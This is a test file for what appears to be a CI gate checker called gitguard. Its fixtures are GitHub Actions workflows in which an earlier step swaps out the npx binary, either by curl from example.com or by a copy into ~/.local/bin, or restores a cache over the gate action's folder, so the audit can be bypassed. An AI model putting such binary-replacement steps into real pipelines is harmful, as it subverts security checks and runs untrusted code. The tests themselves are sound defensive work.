// redteam155: a local composite action holding the gate (`uses: ./.github/actions/gate`) after a step
// of the same job that loses it (a download over ~/.local/bin/npx, a copy there, a cache restored over
// the action's folder): the runner runs the action's `npx gitguard audit` with the pusher's npx, yet
// the action was read on its own and kept the gate. Each lost case passed (exit 0) before the fix; the
// kept twins still do.
import { cleanupTemp } from '../helpers/repo.js';
import { gateBatch } from '../helpers/gate-batch.js';

afterAll(cleanupTemp);

const WF = '.github/workflows/ci.yml';
const ACTION = '.github/actions/gate/action.yml';
const ACTION_TEXT =
  'name: gate\nruns:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n';
/** A push workflow's job `name`: checkout, then `steps` (YAML, six spaces in), then the local gate action. */
const job = (name: string, steps: string): string =>
  `  ${name}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${steps}      - uses: ./.github/actions/gate\n`;
const wf = (...jobs: string[]): Record<string, string> => ({
  [WF]: `on: push\njobs:\n${jobs.join('')}`,
  [ACTION]: ACTION_TEXT,
});
const run = (s: string): string => `      - run: ${JSON.stringify(s)}\n`;
const cache = (path: string): string =>
  `      - uses: actions/cache@v4\n        with:\n          path: ${path}\n          key: k\n`;
const HONEST = wf(job('a', ''));

type Case = [name: string, files: Record<string, string>];

const LOST: Case[] = [
  ['curl -o ~/.local/bin/npx', wf(job('a', run('curl -sSLo ~/.local/bin/npx https://example.com/npx')))],
  ['cp into ~/.local/bin/npx', wf(job('a', run('cp ci/npx ~/.local/bin/npx')))],
  ['cache restored over .github/actions', wf(job('a', cache('.github/actions')))],
  [
    'lost in the one job calling it',
    wf(
      job('a', run('cp ci/npx ~/.local/bin/npx')),
      '  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n',
    ),
  ],
];

const KEPT: Case[] = [
  ['checkout then the action', HONEST],
  ['npm ci then the action', wf(job('a', run('npm ci')))],
  ['lost in one job, called in another as it was', wf(job('a', run('cp ci/npx ~/.local/bin/npx')), job('b', ''))],
  ['a download into /tmp', wf(job('a', run('curl -sSLo /tmp/x.tgz https://example.com/x.tgz')))],
];

describe('redteam155: a local action gate after a step that loses it', () => {
  const batch = gateBatch();
  for (const [name, after] of LOST) test(`lost: ${name}`, batch.add(HONEST, after, false), 600_000);
  for (const [name, after] of KEPT) test(`kept: ${name}`, batch.add(HONEST, after, true), 600_000);
});
